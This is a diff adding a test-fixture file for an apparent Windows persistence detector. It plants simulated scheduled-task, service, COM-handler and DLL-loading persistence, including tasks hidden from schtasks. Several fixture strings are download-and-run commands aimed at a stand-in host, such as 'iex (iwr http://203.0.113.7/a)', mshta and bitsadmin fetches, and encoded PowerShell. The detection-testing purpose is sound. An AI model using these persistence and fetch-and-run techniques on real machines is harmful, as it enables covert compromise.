@@ -1,0 +1,104 @@
+"""Scheduled tasks and services that carry a payload."""
+from windows_disk import *
+
+change = Changes()
+CHECK, AUTOSTARTS = 'WIN-PERSIST-003', 'WIN-PERSIST-001'
+EVIL, LIBRARY = r'C:\ProgramData\x\x.exe', r'C:\ProgramData\x\x.dll'
+CLASS = '{DEADBEEF-1111-2222-3333-444455556666}'
+POWERSHELL = r'WindowsPowerShell\v1.0\powershell.exe'
+
+
+def task(name, why, place, *action, programs=(), payload=None, files=(), path=r'\Update', **more):
+    def make(d):
+        d.windows(*programs)
+        if payload:
+            d.foreign(payload)
+        for file, data in files:
+            d.put(file, data)
+        d.task(path, *action, **more)
+    change.row(name, why, CHECK, place, make)
+
+
+task('unsigned-program-of-a-task', 'The task scheduler starts it with the system.', 'x.exe', EVIL, payload=EVIL)
+task('encoded-powershell-of-a-task', 'PowerShell takes a dash of Unicode for one of its options.', 'Update', 'powershell.exe', '-w hidden \u2013enc SQBFAFgA',
+     programs=[POWERSHELL])
+task('file-of-powershell', 'A script of nobody\'s, run by a signed program.', 'a.ps1', 'powershell.exe', r'-ep bypass -File C:\ProgramData\x\a.ps1', programs=[POWERSHELL],
+     files=[(r'ProgramData\x\a.ps1', '&("ie"+"x") (iwr http://203.0.113.7/a)')])
+task('registration-of-a-task', 'regsvr32.exe calls DllRegisterServer of any library.', 'x.dll', 'regsvr32.exe', f'/s {LIBRARY}', programs=['regsvr32.exe'], payload=LIBRARY)
+task('library-of-a-task', 'rundll32.exe calls a function of any library.', 'x.dll', 'rundll32.exe', f'{LIBRARY},Go', programs=['rundll32.exe'], payload=LIBRARY)
+task('shell-of-a-task', 'cmd.exe runs both commands.', 'x.exe', 'cmd.exe', f'/c echo & {EVIL}', programs=['cmd.exe'], payload=EVIL)
+task('page-of-a-task', 'mshta.exe runs the scripts of a page.', 'mshta', 'mshta.exe', 'http://203.0.113.7/x.hta', programs=['mshta.exe'])
+task('script-of-a-task', 'wscript.exe runs the script.', 'x.vbs', 'wscript.exe', r'C:\ProgramData\x\x.vbs', programs=['wscript.exe'], files=[(r'ProgramData\x\x.vbs', 'x = 1')])
+task('fetching-task', 'bitsadmin.exe fetches a file and runs a command behind it.', 'bitsadmin', 'bitsadmin.exe', r'/transfer x http://203.0.113.7/x C:\x.exe',
+     programs=['bitsadmin.exe'])
+task('task-among-those-of-windows', 'A task of a name like Windows\' own, hidden by its index.', 'x.exe', EVIL, payload=EVIL,
+     path=r'\Microsoft\Windows\Clip\LicenseValidation2', index=0)
+task('task-without-a-descriptor', 'schtasks and the console don\'t show a task without SD.', 'Update', r'C:\Windows\System32\svchost.exe', security=False)
+task('task-of-the-registry-alone', 'The scheduler takes tasks from the registry; the file is for show.', 'x.exe', EVIL, payload=EVIL, file=False)
+task('task-with-another-file', 'The scheduler takes the registry\'s action, and who looks at the file sees another.', 'x.exe', EVIL, payload=EVIL,
+     in_file=r'C:\Windows\System32\svchost.exe')
+task('program-of-the-users-folder', 'A folder that users may write to.', 'x.exe', r'C:\Users\Public\x.exe', payload=r'C:\Users\Public\x.exe')
+
+
+@change(CHECK, 'x.dll')
+def handler_of_a_task(d):
+    """A task may name a class: its library is loaded into taskhostw.exe."""
+    d.com(CLASS, d.foreign(LIBRARY))
+    d.task(r'\Update', handler=CLASS)
+
+
+@change(CHECK, 'x.dll')
+def handler_of_another_view(d):
+    """The class is registered for programs of 32 bits alone."""
+    d.com(CLASS, d.foreign(LIBRARY), classes=r'Classes\Wow6432Node\CLSID')
+    d.task(r'\Update', handler=CLASS)
+
+
+@change(CHECK, 'x.exe')
+def handler_in_a_program(d):
+    """A class may be served by a program."""
+    d.software(rf'Classes\CLSID\{CLASS}\LocalServer32', '', SZ, d.foreign(EVIL))
+    d.task(r'\Update', handler=CLASS)
+
+
+@change(CHECK, 'x.exe')
+def variable_in_a_task(d):
+    """Variables of the machine are put into the command."""
+    d.foreign(r'C:\ProgramData\kit\x.exe')
+    d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\ProgramData\kit')
+    d.task(r'\Update', r'%kit%\x.exe')
+
+
+# --- services ---
+def service(name, why, place, image, payload=None, more=None, kind=0x10):
+    def make(d):
+        if payload:
+            d.foreign(payload)
+        d.service('Update', image, kind=kind)
+        if more:
+            more(d)
+    change.row(name, why, CHECK, place, make)
+
+
+def parameters(d, **values):
+    for entry, text in values.items():
+        d.system(rf'{SERVICES}\Update\Parameters', entry, EXPAND, text)
+
+
+SVCHOST = r'%SystemRoot%\System32\svchost.exe -k netsvcs'
+service('unsigned-program-of-a-service', 'The service manager starts it with the system.', 'x.exe', EVIL, EVIL)
+service('variable-in-a-service', 'Variables of the machine are put into the path.', 'x.exe', r'%kit%\x.exe', r'C:\Windows\Temp\x.exe',
+        lambda d: d.system(rf'{SESSION}\Environment', 'kit', SZ, r'C:\Windows\Temp'))
+service('service-by-globalroot', 'GLOBALROOT leads to the root of all objects.', 'Update', r'\\?\GLOBALROOT\SystemRoot\Temp\x.exe', r'C:\Windows\Temp\x.exe')
+service('library-of-a-service', 'svchost.exe loads ServiceDll.', 'x.dll', SVCHOST, LIBRARY, lambda d: parameters(d, ServiceDll=LIBRARY), kind=0x20)
+service('shell-of-a-service', 'A service need not answer: its command has run.', 'Update', r'C:\Windows\System32\cmd.exe /c powershell -enc SQBFAFgA',
+        more=lambda d: d.windows('cmd.exe', POWERSHELL))
+service('failing-service', 'FailureCommand is run where the service fails.', 'FailureCommand', r'C:\Windows\System32\svchost.exe',
+        more=lambda d: d.system(rf'{SERVICES}\Update', 'FailureCommand', SZ, d.foreign(EVIL)))
+service('wrapped-program', 'A signed wrapper starts what its parameters name.', 'x.exe', r'"C:\Program Files\App\nssm.exe"', EVIL,
+        lambda d: (d.honest(r'C:\Program Files\App\nssm.exe'), parameters(d, Application=EVIL)))
+change.row('counters-of-a-service', 'Who reads performance counters loads Library.', AUTOSTARTS, 'x.dll', lambda d: (
+    d.foreign(LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Library', EXPAND, LIBRARY), d.system(rf'{SERVICES}\Tcpip\Performance', 'Open', SZ, 'Open')))
+change.row('plugin-of-the-name-server', 'The DNS server loads ServerLevelPluginDll.', AUTOSTARTS, 'x.dll',
+           lambda d: d.system(rf'{SERVICES}\DNS\Parameters', 'ServerLevelPluginDll', SZ, d.foreign(LIBRARY)))
+change.row('svchost-replaced', 'Every service of svchost.exe runs in it.', CHECK, 'svchost.exe', lambda d: d.foreign(r'C:\Windows\System32\svchost.exe'))
